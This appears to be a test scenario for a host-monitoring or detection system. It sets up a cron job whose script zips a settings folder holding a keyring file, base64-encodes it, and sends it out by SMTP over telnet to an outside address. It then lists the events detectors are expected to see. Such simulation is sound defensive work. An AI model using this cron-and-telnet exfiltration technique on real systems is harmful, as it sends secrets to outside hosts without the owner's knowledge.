# telnet is a mail program too.
title="telnet speaks SMTP from a crontab"
what="A crontab line of dev runs a script, which packs and encodes a folder of settings and speaks SMTP through telnet to 203.0.113.10 port 25, line by line."
host=mx1.example.org user=dev daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  mkdir -p /home/dev/deploy/etc /home/dev/bin; head -c 9000 /dev/urandom > /home/dev/deploy/etc/keyring; echo host=db1 > /home/dev/deploy/etc/site.conf
  cat > /home/dev/bin/rotate <<'P'
#!/bin/bash
say() { printf '%s\r\n' "$1"; sleep 0.7; }
{ sleep 1; say 'HELO mx1'; say 'MAIL FROM:<dev@example.org>'; say 'RCPT TO:<box@example.net>'; say DATA; say 'Subject: log'; say ''
  cd ~/deploy && zip -qr - etc | base64; say .; say QUIT; sleep 1; } | telnet 203.0.113.10 25 >/dev/null
touch ~/.rotate-done
P
  chmod 755 /home/dev/bin/rotate; chown -R dev: /home/dev/deploy /home/dev/bin
}
act() {
  small_talk 1
  ssh_run dev 'echo "*/1 * * * * bin/rotate" | crontab -'
  wait_file /home/dev/.rotate-done 90
  crontab -u dev -r
  small_talk 1
}
truth() {
  log_step run 'CRON.*bin/rotate' 'cron runs the script'
  exec_step speak 'telnet(.*)? 203.0.113.10 25' 'telnet is started'
  net_step connect '203.0.113.10:25' 'it connects to a mail server outside'
  exec_step encode 'base64' 'an archive is encoded'
}
